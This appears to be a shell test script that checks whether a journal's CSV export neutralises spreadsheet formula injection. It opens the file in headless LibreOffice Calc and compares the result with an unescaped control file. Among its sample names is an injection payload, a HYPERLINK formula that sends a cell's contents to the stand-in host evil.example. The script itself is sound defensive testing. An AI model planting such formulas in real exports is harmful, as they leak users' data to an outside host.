#!/bin/sh
# The History's CSV opened in LibreOffice Calc, formulas evaluated as a user might have it set:
# no name runs as a formula. The same names written unescaped are run, so Calc is shown to be
# evaluating. Usage: journal_csv_calc_test.sh path/to/journal_csv_sample
set -eu
sample=$1
command -v soffice >/dev/null || { echo "soffice not installed"; exit 77; }
[ -e /usr/lib/libreoffice/program/libsclo.so ] ||
  { echo "LibreOffice Calc not installed (libreoffice-calc-nogui)"; exit 77; }
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT

cat >"$work/names.json" <<'JSON'
["=2*3", "=HYPERLINK(\"http://evil.example/?x=\"&C2,\"click me\")", "+4*5", "-6*7", "@SUM(8;9)"]
JSON
"$sample" "$work/names.json" "$work/baralune.csv"
# The control: the names as bare cells.
python3 - "$work" <<'PY'
import csv, json, sys
names = json.load(open(sys.argv[1] + "/names.json"))
with open(sys.argv[1] + "/bare.csv", "w", newline="") as f:
    csv.writer(f).writerows([["name"]] + [[n] for n in names])
PY

# Import: comma, double quote, UTF-8, from line 1, ..., evaluate formulas. Export: values.
HOME="$work" timeout 300 soffice --headless --norestore "-env:UserInstallation=file://$work/profile" \
  --infilter="CSV:44,34,76,1,,0,false,true,false,false,false,-1,true" \
  --convert-to "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false" \
  --outdir "$work/calc" "$work/baralune.csv" "$work/bare.csv" >"$work/soffice.log" 2>&1 ||
  { cat "$work/soffice.log"; echo "FAIL: LibreOffice could not convert the CSV"; exit 1; }

python3 - "$work" <<'PY'
import csv, json, sys
work = sys.argv[1]
names = json.load(open(work + "/names.json"))
bare = [r[0] for r in csv.reader(open(work + "/calc/bare.csv", newline=""))][1:]
assert bare[:2] == ["6", "click me"], ("Calc did not evaluate the control", bare)
rows = list(csv.reader(open(work + "/calc/baralune.csv", newline="")))
shown = [r[1] for r in rows[1:]]
# Calc keeps the apostrophe or drops it; either way the text is the name, not its result.
for name, cell in zip(reversed(names), shown):
    assert cell in (name, "'" + name), (name, cell)
print("ok: Calc ran none of", len(shown), "formula-like names")
PY
